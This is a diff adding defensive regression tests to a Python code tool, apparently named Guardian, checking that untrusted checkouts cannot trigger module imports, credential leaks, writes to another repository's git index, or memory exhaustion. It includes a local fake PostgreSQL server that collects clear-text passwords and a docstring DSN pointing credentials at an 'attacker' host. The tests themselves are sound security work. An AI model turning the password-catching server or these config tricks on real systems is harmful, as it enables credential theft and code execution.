@@ -7,6 +7,7 @@ listed in the issue's closing note.
 from __future__ import annotations
 
 import os
+import shutil
 import stat
 from pathlib import Path
 
@@ -179,3 +180,146 @@ def test_a_configuration_symlinked_outside_the_repository_is_refused(checkout: P
     code, out, err = run(checkout, "--no-exec", "plan")
     assert code == 2 and "guardian.toml" in err and "outside the repository" in err, err
     assert SECRET not in out + err
+
+
+def test_rope_imports_no_module_the_checkouts_pyproject_names(checkout: Path, tmp_path: Path) -> None:
+    """Rope reads `[tool.rope]` from the project's pyproject.toml: `extension_modules` are modules
+    Rope `__import__`s in Guardian's own process to inspect them, and `type_hinting_factory` is a
+    dotted path it imports. Run as `python -m guardian` from the checkout (the current directory is
+    then on sys.path), `apply --no-exec` ran the checkout's `evil.py`."""
+    import subprocess
+    import sys
+
+    marker = tmp_path / "rope-imported-it"
+    (checkout / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    (checkout / "pyproject.toml").write_text(
+        '[tool.rope]\nextension_modules = ["evil"]\ntype_hinting_factory = "evil.factory"\n'
+    )
+    (checkout / "src/pkg/a.py").write_text("from evil import b\nimport pkg.b\n")
+    git(checkout, "add", "-A")
+    git(checkout, "commit", "-qm", "rope configuration")
+    for command in (["plan"], ["apply", "--all"]):
+        done = subprocess.run(
+            [sys.executable, "-m", "guardian", "--no-exec", *command],
+            cwd=checkout,
+            capture_output=True,
+            text=True,
+            timeout=300,
+            check=False,
+        )
+        assert done.returncode == 0, (command, done.stderr)
+    assert not marker.exists()
+
+
+class _PasswordCatcher:
+    """A PostgreSQL server of the attacker's: it asks every client for its password in clear text."""
+
+    def __init__(self) -> None:
+        import socket
+        import threading
+
+        self.received: list[bytes] = []
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        import struct
+
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(10)
+                try:
+                    while True:
+                        length, code = struct.unpack("!II", conn.recv(8))
+                        body = conn.recv(length - 8) if length > 8 else b""
+                        if code in (80877103, 80877104):  # SSLRequest, GSSENCRequest: no
+                            conn.sendall(b"N")
+                            continue
+                        assert body is not None
+                        conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
+                        kind = conn.recv(1)
+                        size = struct.unpack("!I", conn.recv(4))[0]
+                        if kind == b"p":
+                            self.received.append(conn.recv(size - 4))
+                        break
+                except (OSError, struct.error):
+                    pass
+
+    def close(self) -> None:
+        self.server.close()
+
+
+def test_a_configured_dsn_gets_no_credentials_of_the_user_under_no_exec(
+    checkout: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`[database] dsn = "postgresql://postgres@attacker:5432/db"` in the checkout's configuration:
+    `assess` connected there, and libpq answered the server's clear-text password request with the
+    user's PGPASSWORD (or a matching ~/.pgpass line): a CI secret sent to a host the checkout chose."""
+    catcher = _PasswordCatcher()
+    monkeypatch.setenv("PGPASSWORD", SECRET)
+    try:
+        with (checkout / "guardian.toml").open("a") as config:
+            config.write(f'[database]\ndsn = "postgresql://postgres@127.0.0.1:{catcher.port}/db"\n')
+        code, out, err = run(checkout, "--no-exec", "assess")
+        assert code == 0, err
+        assert "--no-exec" in err and "dsn" in err
+    finally:
+        catcher.close()
+    assert catcher.received == []
+
+
+def test_a_git_file_naming_another_repositorys_git_directory_changes_nothing_there(
+    checkout: Path, tmp_path: Path
+) -> None:
+    """A tarball's `.git` can be a file, `gitdir: ../other/.git`, naming the git directory of another
+    clone on the machine (CI runners keep them side by side): `apply` then ran `git add -N` and
+    `git status` against that repository's index, and `revert` ran `git rm --cached` on it."""
+    other = tmp_path / "other"
+    git(tmp_path, "clone", "-q", str(checkout), str(other))
+    (other / "work.txt").write_text("the other clone's own staged work\n")
+    git(other, "add", "work.txt")
+    index = (other / ".git/index").read_bytes()
+    shutil.rmtree(checkout / ".git")
+    (checkout / ".git").write_text("gitdir: ../other/.git\n")
+    code, _, err = run(checkout, "--no-exec", "plan")
+    assert code == 0, err
+    code, _, err = run(checkout, "--no-exec", "apply", "--all")
+    assert (other / ".git/index").read_bytes() == index
+    assert code == 2 and ".git" in err and "other" in err, err
+
+
+def test_a_sparse_file_of_gigabytes_is_not_read(checkout: Path, tmp_path: Path) -> None:
+    """A tarball can hold a sparse file of any size that takes no disk: `plan` read a 4 GiB
+    `notes.md` or `src/pkg/big.py` whole (MemoryError, exit 1, or the machine's memory). A document
+    that large is skipped; a module that large is a one-line error naming it (exit 2)."""
+    import resource
+    import subprocess
+    import sys
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
+
+    def plan() -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", "plan"],
+            capture_output=True,
+            text=True,
+            timeout=120,
+            preexec_fn=limit,
+            check=False,
+        )
+
+    with (checkout / "notes.md").open("wb") as notes:
+        notes.truncate(4 << 30)
+    done = plan()
+    assert done.returncode == 0, done.stderr
+    with (checkout / "src/pkg/big.py").open("wb") as big:
+        big.truncate(4 << 30)
+    done = plan()
+    assert done.returncode == 2 and "src/pkg/big.py" in done.stderr and "larger than" in done.stderr, done.stderr
